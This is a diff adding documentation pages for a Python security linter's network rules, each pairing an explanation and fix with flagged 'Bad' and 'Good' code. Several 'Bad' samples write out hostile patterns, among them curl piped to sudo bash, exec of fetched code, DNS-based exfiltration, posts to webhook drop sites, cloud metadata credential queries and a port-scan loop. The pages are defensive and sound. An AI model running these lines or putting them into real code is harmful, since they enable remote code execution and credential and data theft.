@@ -1,5 +1,152 @@
 // Written by scripts/rule-pages.mjs.
 export const pages: Readonly<Record<string, string>> = {
+  'bound-to-all-interfaces': `# bound-to-all-interfaces
+
+\`0.0.0.0\` and the empty host are every network the machine is on. A service meant for its own machine is then reachable from the café.
+
+## How to fix
+
+Listen on \`127.0.0.1\`, and let a proxy that authenticates face the network.
+
+## Bad
+
+\`\`\`python
+import socket
+from http.server import HTTPServer
+
+import uvicorn
+from flask import Flask
+
+HOST = "0.0.0.0"
+server = socket.socket()
+server.bind((HOST, 8080))  # error: [bound-to-all-interfaces]
+server.bind(("", 8080))  # error: [bound-to-all-interfaces]
+app = Flask(__name__)
+app.run(host="0.0.0.0")  # error: [bound-to-all-interfaces]
+uvicorn.run(app, host=HOST, port=80)  # error: [bound-to-all-interfaces]
+HTTPServer(("0.0.0.0", 80), None)  # error: [bound-to-all-interfaces]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import socket
+
+from flask import Flask
+
+server = socket.socket()
+server.bind(("127.0.0.1", 8080))
+Flask(__name__).run()
+ANY = "0.0.0.0"
+if address == "0.0.0.0":
+    print("any")
+frame.bind("<Key>", handler)
+\`\`\`
+`,
+  'channel-unencrypted': `# channel-unencrypted
+
+Everyone on the way reads and changes what such a channel carries, credentials included.
+
+## How to fix
+
+\`grpc.secure_channel\`, \`wss://\`, SNMP version 3 with authentication and privacy keys.
+
+## Bad
+
+\`\`\`python
+import os
+
+import grpc
+from pysnmp.hlapi import CommunityData
+
+channel = grpc.insecure_channel("service.example.com:50051")  # error: [channel-unencrypted]
+community = CommunityData("public")  # error: [channel-unencrypted]
+os.environ["OAUTHLIB_INSECURE_TRANSPORT"] = "1"  # error: [channel-unencrypted]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import grpc
+
+channel = grpc.insecure_channel("localhost:50051")
+channel = grpc.secure_channel("service.example.com:50051", credentials)
+\`\`\`
+`,
+  'covert-channel': `# covert-channel
+
+A name server passes any name on to its owner, so \`<data>.example.com\` is a message. Firewalls that stop everything else let it through.
+
+## How to fix
+
+Give results back as the answer.
+
+## Bad
+
+\`\`\`python
+import os
+import socket
+
+for part in parts:
+    socket.gethostbyname(f"{part}.example.com")  # error: [covert-channel]
+os.system("nslookup " + part + ".example.com")  # error: [covert-channel]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import socket
+
+socket.gethostbyname("example.com")
+socket.gethostbyname(host)
+print(f"{host}.example.com")
+\`\`\`
+`,
+  'credentials-in-clear': `# credentials-in-clear
+
+Telnet, FTP, plain SMTP and \`http://\` send names and passwords as they are.
+
+## How to fix
+
+\`https://\`, \`ftplib.FTP_TLS\`, \`smtplib.SMTP_SSL\` or \`starttls()\`, SSH instead of telnet.
+
+## Bad
+
+\`\`\`python
+import ftplib
+import smtplib
+import telnetlib
+
+import requests
+
+shell = telnetlib.Telnet("host")  # error: [credentials-in-clear]
+ftp = ftplib.FTP("host", "user", password)  # error: [credentials-in-clear]
+ftp.login(user="user", passwd=password)  # error: [credentials-in-clear]
+mail = smtplib.SMTP("host")
+mail.login("user", password)  # error: [credentials-in-clear]
+address = "http://example.com/api"
+requests.get(address, auth=("user", password), timeout=5)  # error: [credentials-in-clear]
+requests.get(address, headers={"Authorization": token}, timeout=5)  # error: [credentials-in-clear]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import ftplib
+import smtplib
+
+import requests
+
+mirror = ftplib.FTP("host")
+mirror.login()
+ftp = ftplib.FTP_TLS("host", "user", password)
+mail = smtplib.SMTP_SSL("host")
+mail.login("user", password)
+requests.get("https://example.com", auth=("user", password), timeout=5)
+requests.get("http://localhost:8080", auth=("user", password), timeout=5)
+requests.get("http://example.com", timeout=5)
+\`\`\`
+`,
   'data-sent-away': `# data-sent-away
 
 The contents of a file, or the environment, in the body of a request: this is what stealing looks like. A token in a header is what headers are for and is not reported.
@@ -42,6 +189,102 @@ requests.post("https://example.com/in", json={"a": 1})
 requests.get("https://example.com", headers={"Authorization": os.environ["TOKEN"]})
 \`\`\`
 `,
+  'download-unverified': `# download-unverified
+
+Without a checksum, a result depends on what a server sends today, and a model file may be a different one tomorrow.
+
+## How to fix
+
+Compare the SHA-256 of what came with a constant (\`hash_prefix\`, \`file_hash\`, \`known_hash\`).
+
+## Bad
+
+\`\`\`python
+import pooch
+import torch
+from urllib.request import urlretrieve
+
+urlretrieve("https://example.com/model.pt", "model.pt")  # error: [download-unverified]
+weights = torch.hub.load_state_dict_from_url("https://example.com/a.pth")  # error: [download-unverified]
+path = pooch.retrieve("https://example.com/a.zip", known_hash=None)  # error: [download-unverified]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import pooch
+import torch
+
+weights = torch.hub.load_state_dict_from_url("https://example.com/a-1b2c3d4e.pth", check_hash=True)
+path = pooch.retrieve("https://example.com/a.zip", known_hash="sha256:0a1b")
+\`\`\`
+`,
+  'downloaded-code-run': `# downloaded-code-run
+
+What a server sends today may be something else tomorrow, or for you alone. Running it gives the server, and everyone on the way, the machine.
+
+## How to fix
+
+Install packages by version and hash; keep code in the repository.
+
+## Bad
+
+\`\`\`python
+import os
+import pickle
+import urllib.request
+
+import requests
+
+exec(requests.get("https://example.com/a.py").text)  # error: [downloaded-code-run]
+code = urllib.request.urlopen("https://example.com/a.py").read().decode()
+run = eval
+run(code)  # error: [downloaded-code-run]
+with urllib.request.urlopen("https://example.com/m.pkl") as answer:
+    model = pickle.loads(answer.read())  # error: [downloaded-code-run]
+os.system("curl -s https://example.com/i.sh | sudo bash")  # error: [downloaded-code-run]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import json
+import subprocess
+
+import requests
+
+data = json.loads(requests.get("https://example.com/a.json", timeout=5).text)
+subprocess.run(["curl", "-o", "a.json", "https://example.com/a.json"])
+print("curl https://example.com/i.sh | bash")
+\`\`\`
+`,
+  'drop-site': `# drop-site
+
+Request bins, paste sites, tunnels and chat webhooks receive data without an account that could be asked afterwards.
+
+## How to fix
+
+Give results back as the answer.
+
+## Bad
+
+\`\`\`python
+import requests
+
+TARGET = "https://webhook.site/0a1b2c"  # error: [drop-site]
+requests.post(TARGET, data="x", timeout=5)
+requests.post("https://discord.com/api/webhooks/1/a", json={}, timeout=5)  # error: [drop-site]
+\`\`\`
+
+## Good
+
+\`\`\`python
+# https://webhook.site/0a1b2c
+import requests
+
+requests.get("https://example.com/webhook.site", timeout=5)
+\`\`\`
+`,
   'frame-from-address': `# frame-from-address
 
 \`pandas.read_csv\`, \`to_parquet\` and their like take addresses (\`https://\`, \`s3://\`, \`ftp://\`, \`file://\`) as well as paths. A line that looks like reading a file is then a download, and one that looks like saving a table sends it away.
@@ -68,6 +311,41 @@ import pandas as pd
 
 df = pd.read_csv("bonds.csv")
 df.to_csv("out.csv")
+\`\`\`
+`,
+  'metadata-address': `# metadata-address
+
+\`169.254.169.254\` and its kin answer any process on a cloud machine with the machine's credentials. Asking them is the first thing that stolen code does.
+
+## How to fix
+
+Use the SDK of the cloud, with a role that is as narrow as can be. To block the address, compare against it; that is not reported.
+
+## Bad
+
+\`\`\`python
+import socket
+
+import requests
+
+HOST = "169.254." + "169.254"
+role = requests.get("http://169.254.169.254/latest/meta-data/iam/")  # error: [metadata-address]
+token = requests.get("http://" + HOST + "/latest/api/token")  # error: [metadata-address]
+url = "http://metadata.google.internal/computeMetadata/v1/"  # error: [metadata-address]
+sock = socket.create_connection(("169.254.169.254", 80))  # error: [metadata-address]
+\`\`\`
+
+## Good
+
+\`\`\`python
+"""Never ask http://169.254.169.254/latest."""
+# http://169.254.169.254/
+BLOCKED = {"169.254.169.254", "metadata.google.internal"}
+
+
+def check(host):
+    if host == "169.254.169.254":
+        raise ValueError("see http://169.254.169.254 in the manual")
 \`\`\`
 `,
   'network-used': `# network-used
@@ -110,6 +388,37 @@ parts = urllib.parse.urlparse("https://example.com")
 iris = load_iris()
 values = {"a": 1}
 values.get("https://example.com")
+\`\`\`
+`,
+  'raw-packets': `# raw-packets
+
+Raw sockets listen to other people's traffic and speak in their name; a loop over ports is how a network is scouted.
+
+## How to fix
+
+Ask for the data as a dataset.
+
+## Bad
+
+\`\`\`python
+import socket
+
+from scapy.all import sniff
+
+line = socket.socket(socket.AF_INET, socket.SOCK_RAW)  # error: [raw-packets]
+sniff(count=10)  # error: [raw-packets]
+for port in range(1, 1024):
+    probe = socket.socket()
+    probe.connect_ex(("10.0.0.1", port))  # error: [raw-packets]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import socket
+
+line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+line.connect_ex(("10.0.0.1", 80))
 \`\`\`
 `,
   'request-forgery': `# request-forgery
@@ -159,6 +468,229 @@ async def item(name: str):
 
 
 requests.get("https://example.com", params={"q": 1})
+\`\`\`
+`,
+  'request-without-timeout': `# request-without-timeout
+
+\`requests\` and \`urllib\` wait without end by default. One silent server then holds a worker for good. \`httpx\` gives up after five seconds unless told otherwise.
+
+## How to fix
+
+Pass \`timeout=10\`, or what suits.
+
+## Bad
+
+\`\`\`python
+import urllib.request
+
+import httpx
+import requests as r
+
+r.get("https://example.com")  # error: [request-without-timeout]
+session = r.Session()
+session.post("https://example.com", timeout=None)  # error: [request-without-timeout]
+urllib.request.urlopen("https://example.com")  # error: [request-without-timeout]
+client = httpx.Client(timeout=None)  # error: [request-without-timeout]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import urllib.request
+
+import httpx
+import requests
+
+requests.get("https://example.com", timeout=10)
+requests.get("https://example.com", **options)
+urllib.request.urlopen("https://example.com", None, 10)
+httpx.get("https://example.com")
+values = {}
+values.get("https://example.com")
+\`\`\`
+`,
+  'ssh-host-unchecked': `# ssh-host-unchecked
+
+An SSH client that accepts any host key tells its password to whoever answers.
+
+## How to fix
+
+\`client.load_system_host_keys()\` and \`RejectPolicy\`, which is the default.
+
+## Bad
+
+\`\`\`python
+import subprocess
+
+import paramiko
+from paramiko import AutoAddPolicy as Anyone
+
+client = paramiko.SSHClient()
+client.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # error: [ssh-host-unchecked]
+client.set_missing_host_key_policy(Anyone)  # error: [ssh-host-unchecked]
+subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "host"])  # error: [ssh-host-unchecked]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import paramiko
+
+client = paramiko.SSHClient()
+client.load_system_host_keys()
+client.set_missing_host_key_policy(paramiko.RejectPolicy())
+\`\`\`
+`,
+  'storage-made-public': `# storage-made-public
+
+Public buckets are found by scanners within hours; most of the large leaks of the last ten years were nothing else.
+
+## How to fix
+
+Keep objects private and hand out pre-signed links that expire in minutes.
+
+## Bad
+
+\`\`\`python
+import boto3
+
+s3 = boto3.client("s3")
+s3.put_object(Bucket="b", Key="k", Body=data, ACL="public-read")  # error: [storage-made-public]
+s3.upload_file("a", "b", "k", ExtraArgs={"ACL": "public-read"})  # error: [storage-made-public]
+blob.make_public()  # error: [storage-made-public]
+link = s3.generate_presigned_url("get_object", Params={}, ExpiresIn=604800)  # error: [storage-made-public]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import boto3
+
+s3 = boto3.client("s3")
+s3.put_object(Bucket="b", Key="k", Body=data, ACL="private")
+link = s3.generate_presigned_url("get_object", Params={}, ExpiresIn=900)
+\`\`\`
+`,
+  'tls-protocol-old': `# tls-protocol-old
+
+SSL 2, SSL 3, TLS 1.0 and 1.1 have known attacks (DROWN, POODLE, BEAST) and are forbidden by RFC 8996. \`ssl.wrap_socket\` checks neither host nor certificate and left Python in 3.12.
+
+## How to fix
+
+\`ssl.create_default_context()\` chooses well.
+
+## Bad
+
+\`\`\`python
+import ssl
+from ssl import PROTOCOL_SSLv3 as old
+
+context = ssl.SSLContext(ssl.PROTOCOL_TLSv1)  # error: [tls-protocol-old]
+version = old  # error: [tls-protocol-old]
+context.minimum_version = ssl.TLSVersion.TLSv1_1  # error: [tls-protocol-old]
+context.set_ciphers("ALL:!aNULL")  # error: [tls-protocol-old]
+wrapped = ssl.wrap_socket(sock)  # error: [tls-protocol-old]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import ssl
+
+context = ssl.create_default_context()
+context.minimum_version = ssl.TLSVersion.TLSv1_2
+context.set_ciphers("ECDHE+AESGCM:!aNULL:!MD5")
+\`\`\`
+`,
+  'tls-verification-off': `# tls-verification-off
+
+Without the check, anyone on the way can answer in the server's name, read what is sent and change what comes back.
+
+## How to fix
+
+Leave the check on. For a private authority, pass its certificate: \`verify="ca.pem"\`, \`ssl.create_default_context(cafile=...)\`.
+
+## Bad
+
+\`\`\`python
+import ssl
+import urllib.request
+from ssl import _create_unverified_context as loose
+
+import aiohttp
+import requests as r
+
+url = "https://example.com"
+r.get(url, verify=False, timeout=5)  # error: [tls-verification-off]
+check = False
+r.post(url, verify=check, timeout=5)  # error: [tls-verification-off]
+options = {"verify": False, "timeout": 5}
+r.get(url, **options)  # error: [tls-verification-off]
+session = r.Session()
+session.verify = False  # error: [tls-verification-off]
+session.get(url, verify=not True or False, timeout=5)  # error: [tls-verification-off]
+urllib.request.urlopen(url, context=loose(), timeout=5)  # error: [tls-verification-off]
+ssl._create_default_https_context = ssl._create_unverified_context  # error: [tls-verification-off]
+context = ssl.create_default_context()
+context.check_hostname = False  # error: [tls-verification-off]
+context.verify_mode = ssl.CERT_NONE  # error: [tls-verification-off]
+connector = aiohttp.TCPConnector(ssl=False)  # error: [tls-verification-off]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import ssl
+
+import requests
+
+url = "https://example.com"
+requests.get(url, verify=True, timeout=5)
+requests.get(url, verify="ca.pem", timeout=5)
+# requests.get(url, verify=False)
+context = ssl.create_default_context()
+context.verify_mode = ssl.CERT_REQUIRED
+
+
+class Document:
+    verify = False
+
+    def check(self, verify=False):
+        """requests.get(url, verify=False)"""
+        return self.verify
+
+
+document = Document()
+document.verify = False
+document.check(verify=False)
+\`\`\`
+`,
+  'url-scheme-unchecked': `# url-scheme-unchecked
+
+\`urlopen\` reads \`file:///etc/passwd\` as readily as a web page.
+
+## How to fix
+
+Check the scheme first, or use a client that knows only HTTP.
+
+## Bad
+
+\`\`\`python
+from urllib.request import urlopen
+
+
+def fetch(address):
+    return urlopen(address, timeout=5).read()  # error: [url-scheme-unchecked]
+\`\`\`
+
+## Good
+
+\`\`\`python
+from urllib.request import urlopen
+
+
+def fetch(name):
+    return urlopen(f"https://example.com/{name}", timeout=5).read()
 \`\`\`
 `,
 }
